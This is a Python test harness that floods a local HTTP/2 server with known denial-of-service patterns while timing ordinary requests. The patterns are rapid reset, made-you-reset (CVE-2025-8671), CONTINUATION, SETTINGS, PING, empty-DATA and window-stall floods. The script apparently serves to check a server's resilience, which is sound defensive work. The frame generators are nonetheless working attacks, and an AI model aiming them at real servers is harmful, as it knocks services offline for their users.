"""A hostile client of HTTP/2 beside honest traffic: python3 hostile.py PORT ATTACK SECONDS.

Prints one object of JSON: what became of the hostile connections, and how long honest requests took without and with them.
Attacks: none rapid-reset made-you-reset continuation settings ping empty-data window-stall.
"""
import http.client
import json
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PORT, ATTACK, SECONDS = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
HEAD = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "a")]
POST = [(":method", "POST"), (":path", "/hold"), (":scheme", "http"), (":authority", "a")]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(fields):
    return Encoder().encode(fields)


def flood(kind):
    """Frames of an attack, without end."""
    stream = 1
    if kind == "rapid-reset":
        while True:
            yield frame(1, 5, stream, block(HEAD)) + frame(3, 0, stream, struct.pack(">I", 8))
            stream += 2
    elif kind == "made-you-reset":
        # The server is made to reset (CVE-2025-8671): a body longer than its length is an error of the stream. An increment of 0, the usual way, is one of the connection here.
        while True:
            yield frame(1, 4, stream, block(POST + [("content-length", "1")])) + frame(0, 1, stream, b"xx")
            stream += 2
    elif kind == "continuation":
        yield frame(1, 1, 1, block(HEAD))
        while True:
            yield frame(9, 0, 1, b"")
    elif kind == "settings":
        while True:
            yield frame(4, 0, 0, struct.pack(">HI", 3, 100))
    elif kind == "ping":
        while True:
            yield frame(6, 0, 0, b"12345678")
    elif kind == "empty-data":
        yield frame(1, 4, 1, block(POST))
        while True:
            yield frame(0, 0, 1)
    raise ValueError(kind)


def raw_attack(result):
    """One connection after the other; each is to end with GOAWAY ENHANCE_YOUR_CALM, or with the error that the attack is by itself."""
    deadline = time.monotonic() + SECONDS
    while time.monotonic() < deadline:
        connection = socket.create_connection(("127.0.0.1", PORT))
        connection.settimeout(5)
        received = bytearray()
        reader = threading.Thread(target=read_all, args=(connection, received))
        reader.start()
        try:
            connection.sendall(PREFACE + frame(4, 0, 0))
            batch = bytearray()
            for piece in flood(ATTACK):
                batch += piece
                if len(batch) > 4096:
                    connection.sendall(batch)
                    batch.clear()
                if time.monotonic() > deadline + 2:
                    break
        except OSError:
            pass
        reader.join()
        connection.close()
        result["connections"] += 1
        for code in goaways(received):
            result["goaway"][str(code)] = result["goaway"].get(str(code), 0) + 1


def window_stall(result):
    """python3-h2 asks for many bodies and never opens a window: streams stand still, the connection must not."""
    connection = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    sock = socket.create_connection(("127.0.0.1", PORT))
    connection.initiate_connection()
    connection.update_settings({4: 0})
    sock.sendall(connection.data_to_send())
    for _ in range(90):
        connection.send_headers(connection.get_next_available_stream_id(), HEAD, end_stream=True)
    sock.sendall(connection.data_to_send())
    sock.settimeout(0.2)
    deadline = time.monotonic() + SECONDS
    heads = 0
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except TimeoutError:
            continue
        if not data:
            break
        heads += sum(1 for event in connection.receive_data(data) if type(event).__name__ == "ResponseReceived")
        sock.sendall(connection.data_to_send())
    result["connections"], result["stalled"] = 1, heads
    sock.close()


def read_all(connection, received):
    try:
        while data := connection.recv(65536):
            received.extend(data)
    except OSError:
        pass


def goaways(received):
    at = 0
    while at + 9 <= len(received):
        length = int.from_bytes(received[at:at + 3], "big")
        if received[at + 3] == 7 and at + 17 <= len(received):
            yield int.from_bytes(received[at + 13:at + 17], "big")
        at += 9 + length


def honest(seconds):
    """Requests one after the other; their times in microseconds, sorted."""
    times, failures = [], 0
    client = http.client.HTTPConnection("127.0.0.1", PORT, timeout=10)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        began = time.monotonic()
        try:
            client.request("GET", "/")
            good = client.getresponse().read() == b"hello"
        except (OSError, http.client.HTTPException):
            good = False
            client.close()
        failures += not good
        times.append(int((time.monotonic() - began) * 1e6))
    times.sort()
    return {"requests": len(times), "failures": failures, "p50": times[len(times) // 2], "p99": times[len(times) * 99 // 100]}


honest(0.3)
alone = honest(SECONDS)
result = {"attack": ATTACK, "connections": 0, "goaway": {}}
attacker = threading.Thread(target=window_stall if ATTACK == "window-stall" else raw_attack, args=(result,))
if ATTACK != "none":
    # In a process of its own the attack does not take the honest client's time.
    import os
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        attacker.start()
        attacker.join()
        os.write(writing, json.dumps(result).encode())
        os._exit(0)
    os.close(writing)
result_beside = honest(SECONDS)
if ATTACK != "none":
    with os.fdopen(reading) as pipe:
        result = json.loads(pipe.read())
    os.waitpid(child, 0)
print(json.dumps({**result, "alone": alone, "beside": result_beside}))
